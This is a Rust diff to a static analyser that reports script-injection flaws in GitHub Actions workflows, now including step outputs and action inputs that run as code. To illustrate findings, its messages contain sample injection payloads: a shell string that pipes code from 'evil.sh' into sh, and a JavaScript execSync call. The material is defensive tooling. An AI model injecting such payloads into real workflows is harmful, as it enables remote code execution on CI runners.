@@ -14,6 +14,7 @@
 use crate::model::Node;
 use crate::pipeline::github::calls::{self, TaintedInput};
 use crate::pipeline::github::expr::{Expr, Segment, SourceMap, path_text};
+use crate::pipeline::github::outputs;
 use crate::pipeline::github::taint::{tainted, tainted_source};
 use crate::pipeline::github::workflow::{Job, Step, Workflow, env_entry};
 use crate::rules::{FileView, RawFinding, RawRelated, documents};
@@ -24,22 +25,33 @@ pub fn check(file: &FileView<'_>) -> Vec<RawFinding> {
     for doc in documents(file) {
         let wf = Workflow::new(doc);
         let inputs = called_with(file, &wf);
+        let pr = ["pull_request", "pull_request_target"].iter().any(|t| wf.trigger(t).is_some());
         for (job, steps) in wf.all_steps() {
             for step in &steps {
-                let Some((sink, node)) = sink(step) else { continue };
-                let Some(decoded) = node.as_str() else { continue };
-                let map = SourceMap::new(decoded, file.text, node.span);
-                for (k, occ) in map.occurrences().iter().enumerate() {
-                    let Ok(expr) = &occ.parsed else { continue };
-                    for c in expr.dataflow_contexts() {
-                        let at = Context { wf: &wf, job: job.as_ref(), step, sink, inputs: &inputs };
-                        let Some((detail, related)) = explain(&at, c) else { continue };
-                        out.push(RawFinding {
-                            span: map.source_span(k, c.span),
-                            detail: Some(detail),
-                            related,
-                            ..RawFinding::default()
-                        });
+                for (sink, node) in sinks(step) {
+                    let Some(decoded) = node.as_str() else { continue };
+                    let map = SourceMap::new(decoded, file.text, node.span);
+                    for (k, occ) in map.occurrences().iter().enumerate() {
+                        let Ok(expr) = &occ.parsed else { continue };
+                        for c in expr.dataflow_contexts() {
+                            let at = Context {
+                                wf: &wf,
+                                job: job.as_ref(),
+                                steps: &steps,
+                                step,
+                                sink,
+                                inputs: &inputs,
+                                text: file.text,
+                                pr,
+                            };
+                            let Some((detail, related)) = explain(&at, c) else { continue };
+                            out.push(RawFinding {
+                                span: map.source_span(k, c.span),
+                                detail: Some(detail),
+                                related,
+                                ..RawFinding::default()
+                            });
+                        }
                     }
                 }
             }
@@ -66,26 +78,59 @@ fn called_with(file: &FileView<'_>, wf: &Workflow<'_>) -> Vec<TaintedInput> {
 struct Context<'a, 'w> {
     wf: &'a Workflow<'w>,
     job: Option<&'a Job<'w>>,
+    /// Every step of the job, for the outputs of earlier ones.
+    steps: &'a [Step<'w>],
     step: &'a Step<'w>,
     sink: Sink,
     inputs: &'a [TaintedInput],
+    text: &'a str,
+    /// The workflow runs on pull requests (their file and branch names are an outsider's).
+    pr: bool,
 }
 
 #[derive(Clone, Copy, PartialEq, Eq)]
 enum Sink {
     Shell,
     GithubScript,
+    /// An input that an action runs as code: `(action, input, what runs it)`.
+    Input(&'static str, &'static str, &'static str),
 }
 
-/// The step's code: its `run:` script or `actions/github-script`'s `script:` input.
-fn sink<'a>(step: &Step<'a>) -> Option<(Sink, &'a Node)> {
+/// Inputs of well-known actions that are run as code.
+const CODE_INPUTS: &[(&str, &str, &str)] = &[
+    ("appleboy/ssh-action", "script", "a shell script on the remote host"),
+    ("garygrossgarten/github-action-ssh", "command", "a shell command on the remote host"),
+    ("azure/cli", "inlinescript", "an Azure CLI shell script"),
+    ("azure/powershell", "inlinescript", "a PowerShell script"),
+    ("mikefarah/yq", "cmd", "a shell command"),
+    ("devorbitus/yq-action-output", "cmd", "a shell command"),
+    ("sergeysova/jq-action", "cmd", "a shell command"),
+    ("addnab/docker-run-action", "run", "a shell script in the container"),
+    ("addnab/docker-run-action", "options", "`docker run` arguments"),
+    ("nick-fields/retry", "command", "a shell command"),
+    ("nick-invision/retry", "command", "a shell command"),
+    ("gautamkrishnar/blog-post-workflow", "item_exec", "JavaScript"),
+];
+
+/// The step's code: its `run:` script, `actions/github-script`'s `script:` input, or an input a
+/// known action runs.
+fn sinks<'a>(step: &Step<'a>) -> Vec<(Sink, &'a Node)> {
     if let Some(run) = step.run() {
-        return Some((Sink::Shell, run));
+        return vec![(Sink::Shell, run)];
     }
-    if step.action().as_deref() == Some("actions/github-script") {
-        return step.with("script").map(|s| (Sink::GithubScript, s));
+    let Some(action) = step.action() else { return Vec::new() };
+    if action == "actions/github-script" {
+        return step.with("script").map(|s| (Sink::GithubScript, s)).into_iter().collect();
     }
-    None
+    let with = step.node.get("with").map(Node::entries).unwrap_or(&[]);
+    CODE_INPUTS
+        .iter()
+        .filter(|(a, _, _)| *a == action)
+        .filter_map(|&(a, input, runs)| {
+            let entry = with.iter().find(|e| e.key.eq_ignore_ascii_case(input))?;
+            Some((Sink::Input(a, input, runs), &entry.value))
+        })
+        .collect()
 }
 
 /// Why context `c` is dangerous in this script (and where its value comes from), or `None` when it
@@ -104,6 +149,20 @@ fn explain(at: &Context<'_, '_>, c: &Expr) -> Option<(String, Vec<RawRelated>)> 
                 fix(sink, &var, &format!("${{{{ {text} }}}}")),
             ),
             Vec::new(),
+        ));
+    }
+    if let Some((id, name)) = outputs::output_ref(c) {
+        let o = outputs::step_output(at.text, (at.wf, at.job), at.steps, at.step.index, &id, &name, at.pr)?;
+        return Some((
+            format!(
+                "`steps.{id}.outputs.{name}` holds {} (set by step `{id}`), which is set by {}, and is pasted into the {} before it runs, so a value like `{}` runs as code; {}",
+                if o.source.contains(' ') { o.source.clone() } else { format!("`{}`", o.source) },
+                o.who,
+                sink_name(sink),
+                payload(sink),
+                fix(sink, &var, &format!("${{{{ steps.{id}.outputs.{name} }}}}")),
+            ),
+            vec![RawRelated::here(o.span, format!("step `{id}` sets `{name}` from {}", o.source))],
         ));
     }
     let [Segment::Name(head), Segment::Name(name)] = path.as_slice() else { return None };
@@ -133,7 +192,8 @@ fn explain(at: &Context<'_, '_>, c: &Expr) -> Option<(String, Vec<RawRelated>)> 
                     sink_name(sink),
                     payload(sink),
                     match sink {
-                        Sink::Shell => format!("reference the variable instead: `\"${name}\"`"),
+                        Sink::Shell | Sink::Input(..) =>
+                            format!("reference the variable instead: `\"${name}\"`"),
                         Sink::GithubScript => format!("read it as `process.env.{name}` instead"),
                     },
                 ),
@@ -199,16 +259,19 @@ fn related_calls(inputs: &[TaintedInput], name: &str) -> Vec<RawRelated> {
     out
 }
 
-fn sink_name(sink: Sink) -> &'static str {
+fn sink_name(sink: Sink) -> String {
     match sink {
-        Sink::Shell => "shell script",
-        Sink::GithubScript => "`actions/github-script` code",
+        Sink::Shell => "shell script".into(),
+        Sink::GithubScript => "`actions/github-script` code".into(),
+        Sink::Input(action, input, runs) => {
+            format!("`{input}` input of `{action}`, which runs it as {runs},")
+        }
     }
 }
 
 fn payload(sink: Sink) -> &'static str {
     match sink {
-        Sink::Shell => "\"; curl evil.sh | sh; \"",
+        Sink::Shell | Sink::Input(..) => "\"; curl evil.sh | sh; \"",
         Sink::GithubScript => "\"); require('child_process').execSync('id'); (\"",
     }
 }
@@ -218,6 +281,11 @@ fn fix(sink: Sink, var: &str, expr: &str) -> String {
         Sink::Shell => format!("pass it through `env:` (`{var}: {expr}`) and use `\"${var}\"` in the script"),
         Sink::GithubScript => {
             format!("pass it through `env:` (`{var}: {expr}`) and read `process.env.{var}` in the script")
+        }
+        Sink::Input(..) => {
+            format!(
+                "pass it through an environment variable (`{var}: {expr}`) and reference `\"${var}\"` instead"
+            )
         }
     }
 }
